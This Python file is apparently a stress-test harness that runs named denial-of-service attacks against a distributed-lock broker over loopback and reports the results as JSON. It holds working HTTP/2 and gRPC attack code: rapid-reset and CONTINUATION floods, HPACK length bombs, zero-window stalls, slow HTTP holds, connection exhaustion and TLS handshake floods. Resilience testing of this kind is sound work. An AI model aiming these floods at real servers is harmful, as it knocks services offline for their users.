# SPDX-License-Identifier: Apache-2.0
"""One attack on a broker, in a process of its own.

    assailant.py NAME --target HOST:PORT|/path/of/the.sock [--seconds S] [--source ADDRESS] [--token TOKEN]

It goes on for so many seconds, comes again when it is cut off, and sends at most MOST_BYTES. Prints what it did as
JSON. By TCP it comes from an address of its own (127.0.0.66), so that it is another peer than the honest callers.
Loopback only.
"""
import argparse
import contextlib
import json
import random
import select
import socket
import ssl
import time

import hpack
import hyperframe.frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MOST_BYTES = 4 << 30
SOURCE = "127.0.0.66"


def frame(cls, stream=0, flags=(), **fields):
    made = cls(stream, **fields)
    for flag in flags:
        made.flags.add(flag)
    return made.serialize()


def message(payload):
    """A gRPC message."""
    return b"\0" + len(payload).to_bytes(4, "big") + payload


def headers(method, more=(), encoder=None):
    """A block that leaves the table of the other side as it is, so that it can be sent any number of times."""
    listed = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "a"), ("te", "trailers"),
              ("content-type", "application/grpc"), *more]
    return (encoder or hpack.Encoder()).encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in listed], huffman=False)


ACQUIRE, LIST, SESSION, WATCH = (f"/distlock.v1.LockService/{name}"
                                 for name in ("Acquire", "ListLocks", "Session", "WatchLock"))
FORCE_RELEASE = "/distlock.v1.AdminService/ForceRelease"
# SessionRequest { commands { open {} } }: a session that is opened, and says nothing more.
OPEN = b"\x0a\x04\x08\x01\x12\x00"
# AcquireRequest { locks { namespace: "", key: "k" } }: field 1 of the request, field 2 of the lock.
ONE_LOCK = b"\x0a\x03\x12\x01k"


# More than the HTTP face and the operators' port have room for.
MOST_OF_HTTP = 1_300
LONG_WAIT = b'{"locks":[{"key":"waited-for","ttl":"60s","maxWait":"20s"}]}'
WAITS = (b"POST /v1/acquire HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
         % len(LONG_WAIT)) + LONG_WAIT


class Target:
    def __init__(self, text, source):
        self.path = text if text.startswith("/") else None
        host, _, port = text.rpartition(":")
        self.address = text if self.path else (host, int(port))
        self.source = source

    def connect(self):
        sock = socket.socket(socket.AF_UNIX if self.path else socket.AF_INET)
        sock.settimeout(5)
        if not self.path and self.source:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind((self.source, 0))
        try:
            sock.connect(self.address)
        except OSError:
            sock.close()
            raise
        sock.settimeout(0)
        return sock


class Report:
    def __init__(self, seconds):
        self.deadline = time.monotonic() + seconds
        self.connections = self.cut = self.sent = 0

    def goes_on(self):
        return time.monotonic() < self.deadline and self.sent < MOST_BYTES

    def show(self):
        return {"connections": self.connections, "cut": self.cut, "megabytes": round(self.sent / 1e6, 1)}


def pour(report, sock, chunks, reads):
    """Sends the chunks, one after the other, until the time is over or the connection is cut."""
    rest = memoryview(b"")
    while report.goes_on():
        if not rest:
            try:
                rest = memoryview(next(chunks))
            except StopIteration:
                hold(report, [sock], reads)
                return
        readable, writable, _ = select.select([sock] if reads else [], [sock], [], 0.2)
        if readable and not sock.recv(1 << 16):
            raise ConnectionResetError
        if writable:
            count = sock.send(rest)
            rest = rest[count:]
            report.sent += count


def hold(report, socks, reads=True):
    """Keeps connections open until the time is over."""
    open_ones = {sock.fileno(): sock for sock in socks}
    poller = select.poll()
    for fd in open_ones if reads else ():
        poller.register(fd, select.POLLIN)
    while report.goes_on() and open_ones:
        for fd, _ in poller.poll(100):
            try:
                if open_ones[fd].recv(1 << 16):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            report.cut += 1
            poller.unregister(fd)
            del open_ones[fd]


def again_and_again(report, target, make_chunks, reads=True, settings=None):
    """A connection with the preface, and another when it is cut."""
    while report.goes_on():
        try:
            with target.connect() as sock:
                report.connections += 1
                start = PREFACE + frame(frames.SettingsFrame, settings=settings or {})
                pour(report, sock, prepend(start, make_chunks()), reads)
        except OSError:
            report.cut += 1
            time.sleep(0.02)


def prepend(first, chunks):
    yield first
    yield from chunks


def forever(chunk):
    while True:
        yield chunk


def flood(of, count=2000, before=b""):
    """The same frame over and over, after some others."""
    return lambda: prepend(before, forever(of * count)) if before else forever(of * count)


OPEN_SESSION = frame(frames.HeadersFrame, 1, ["END_HEADERS"], data=headers(SESSION))
UNENDED = frame(frames.HeadersFrame, 1, [], data=headers(SESSION))
BIG = b"".join(b"\x10\x04k%03d\x7f\x81\x07" % i + b"v" * 1024 for i in range(15))
FLOODS = {  # name: (chunks of one connection, whether it reads)
    "settings": (flood(frame(frames.SettingsFrame)), True),
    "settings-unread": (flood(frame(frames.SettingsFrame)), False),
    "ping": (flood(frame(frames.PingFrame, opaque_data=b"12345678")), True),
    "priority": (flood(frame(frames.PriorityFrame, 1, depends_on=0, stream_weight=1)), True),
    "window-update": (flood(frame(frames.WindowUpdateFrame, window_increment=1)), True),
    "empty-data": (flood(frame(frames.DataFrame, 1), before=OPEN_SESSION), True),
    "empty-continuation": (flood(frame(frames.ContinuationFrame, 1), before=UNENDED), True),
    "continuation-big": (flood(frame(frames.ContinuationFrame, 1, data=BIG), 8, UNENDED), True),
    "continuation-tiny": (flood(frame(frames.ContinuationFrame, 1, data=b"\x00\x01a\x01b"), before=UNENDED), True),
    "hpack-string": (flood(frame(frames.ContinuationFrame, 1, data=b"x" * 16_000), 8,
                           frame(frames.HeadersFrame, 1, [], data=headers(SESSION) + b"\x10\x7f\xff\xff\xff\xff\x03")),
                     True),
    "hpack-varint": (flood(frame(frames.ContinuationFrame, 1, data=b"\x80" * 16_000), 8,
                           frame(frames.HeadersFrame, 1, [], data=headers(SESSION) + b"\x10\x7f")), True),
    "metadata-64k": (lambda: calls(ACQUIRE, ONE_LOCK, more=[("big", "m" * 65_000)]), True),
    "bin-rubbish": (lambda: calls(ACQUIRE, ONE_LOCK, more=[("x-bin", "!!not base64!!")]), True),
    "big-message": (lambda: calls(ACQUIRE, b"x" * 1_000_000), True),
}


def call(stream, block, payload, end=("END_STREAM",)):
    """One call; a long block goes on in CONTINUATION frames, a long message in several DATA frames."""
    parts = [block[i:i + 16_000] for i in range(0, len(block), 16_000)]
    whole = message(payload)
    data = [whole[i:i + 16_000] for i in range(0, len(whole), 16_000)]
    out = frame(frames.HeadersFrame, stream, ["END_HEADERS"] if len(parts) == 1 else [], data=parts[0])
    for i, part in enumerate(parts[1:], 2):
        out += frame(frames.ContinuationFrame, stream, ["END_HEADERS"] if i == len(parts) else [], data=part)
    for i, part in enumerate(data, 1):
        out += frame(frames.DataFrame, stream, end if i == len(data) else [], data=part)
    return out


def calls(method, payload, more=(), count=1 << 29, after=b"", end=("END_STREAM",), stop=False):
    """payload: the message, or makes it from the number of the call's stream."""
    block = headers(method, more)
    for stream in range(1, 2 * count, 2):
        out = call(stream, block, payload(stream) if callable(payload) else payload, end)
        if stop:
            out += frame(frames.RstStreamFrame, stream, error_code=8)
        yield out
    yield after


def of_lock(number, in_a_lock):
    """A request that names a lock of its own: in `locks`, or by `key`."""
    key = b"\x12\x08%08d" % (number // 2)
    return b"\x0a" + bytes([len(key)]) + key if in_a_lock else key


def rapid_reset(method, payload):
    def chunks():
        made = calls(method, payload, count=300_000, stop=True)
        while True:
            some = b"".join(next(made, b"") for _ in range(100))
            if not some:
                return
            yield some
    return chunks


def many(report, target, count, start, reads=True):
    """As many connections as the broker lets in, each with the same first bytes."""
    socks = []
    for _ in range(count):
        if not report.goes_on():
            break
        try:
            sock = target.connect()
            report.connections += 1
            sock.send(start)
            socks.append(sock)
        except OSError:
            report.cut += 1
            time.sleep(0.002)
    hold(report, socks, reads)
    for sock in socks:
        sock.close()


def crowd(report, target, count, start, more=b""):
    """So many connections at a time, each with the same first bytes, and some more now and then: a new one for each
    that is cut."""
    open_ones, poller, send_at = {}, select.poll(), 0
    while report.goes_on():
        for _ in range(min(50, count - len(open_ones))):
            try:
                sock = target.connect()
                report.connections += 1
                report.sent += sock.send(start)
            except OSError:
                report.cut += 1
                break
            open_ones[sock.fileno()] = sock
            poller.register(sock, select.POLLIN)
        if more and time.monotonic() > send_at:
            send_at = time.monotonic() + 0.5
            for sock in open_ones.values():
                with contextlib.suppress(OSError):
                    report.sent += sock.send(more)
        for fd, _ in poller.poll(10):
            with contextlib.suppress(OSError):
                if open_ones[fd].recv(1 << 16):
                    continue
            report.cut += 1
            poller.unregister(fd)
            open_ones.pop(fd).close()


def short(report, target, make_bytes):
    """One connection after the other, as quickly as they come."""
    while report.goes_on():
        try:
            with target.connect() as sock:
                report.connections += 1
                report.sent += sock.send(make_bytes())
        except OSError:
            report.cut += 1


def tls_handshakes(report, target, slow):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while report.goes_on():
        try:
            with target.connect() as sock:
                report.connections += 1
                if slow:
                    for byte in b"\x16\x03\x01\x02\x00\x01":
                        sock.send(bytes([byte]))
                        time.sleep(min(1.0, max(0.0, report.deadline - time.monotonic())))
                    continue
                sock.settimeout(5)
                context.wrap_socket(sock).close()
        except (OSError, ssl.SSLError):
            report.cut += 1
            time.sleep(0.001)


def attack(name, target, seconds, token=""):
    report = Report(seconds)
    rng = random.Random(1)
    start = PREFACE + frame(frames.SettingsFrame)
    if name in FLOODS:
        chunks, reads = FLOODS[name]
        again_and_again(report, target, chunks, reads)
    elif name == "rapid-reset":
        again_and_again(report, target, rapid_reset(ACQUIRE, ONE_LOCK))
    elif name == "rapid-reset-session":
        again_and_again(report, target, rapid_reset(SESSION, b""))
    elif name == "unacked-streams":
        again_and_again(report, target, lambda: calls(SESSION, b"", count=20_000, end=()))
    elif name == "window-0":
        again_and_again(report, target, lambda: calls(SESSION, OPEN, count=2_000, end=()), False,
                        {4: 0})
    elif name == "list-unread":
        again_and_again(report, target, lambda: calls(LIST, b"\x10\x64", count=2_000), False, {4: 0})
    elif name == "sessions":
        again_and_again(report, target, lambda: calls(SESSION, OPEN, count=20_000, end=()))
    elif name == "force-release":
        again_and_again(report, target, lambda: calls(FORCE_RELEASE, lambda n: of_lock(n, False), count=200_000))
    elif name == "denied-keys":
        again_and_again(report, target, lambda: calls(ACQUIRE, lambda n: of_lock(n, True), count=1_000_000))
    elif name == "proofs-signed":
        bearer = [("authorization", f"Bearer {token}")]
        again_and_again(report, target, lambda: calls(ACQUIRE, ONE_LOCK, bearer, count=1_000_000))
    elif name == "acquire-waiting":
        again_and_again(report, target, lambda: calls(ACQUIRE, ONE_LOCK, count=10_000))
    elif name == "watch":
        again_and_again(report, target, lambda: calls(WATCH, b"\x12\x01k", count=20_000))
    elif name == "garbage":
        short(report, target, lambda: rng.randbytes(200))
    elif name == "preface-garbage":
        short(report, target, lambda: start + rng.randbytes(200))
    elif name == "http1":
        short(report, target, lambda: b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
    elif name == "tls-hello":
        short(report, target, lambda: b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x03")
    elif name == "plain-hello":
        short(report, target, lambda: start)
    elif name == "idle":
        many(report, target, 12_000, start)
    elif name == "half":
        many(report, target, 12_000, b"PRI")
    elif name in ("http-slow", "ops-hold"):
        crowd(report, target, MOST_OF_HTTP, b"GET /metrics", b"?")
    elif name == "http-waits":
        crowd(report, target, MOST_OF_HTTP, WAITS)
    elif name in ("tls-flood", "tls-slow"):
        tls_handshakes(report, target, name == "tls-slow")
    elif name == "none":
        time.sleep(seconds)
    elif name == "busy":
        while report.goes_on():
            sum(range(10_000))
    else:
        raise SystemExit(f"there is no attack {name}")
    return report


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name")
    parser.add_argument("--target", required=True)
    parser.add_argument("--seconds", type=float, default=9)
    parser.add_argument("--source", default=SOURCE)
    parser.add_argument("--token", default="", help="that \"proofs-signed\" shows")
    args = parser.parse_args()
    print(json.dumps(attack(args.name, Target(args.target, args.source), args.seconds, args.token).show()))


if __name__ == "__main__":
    main()
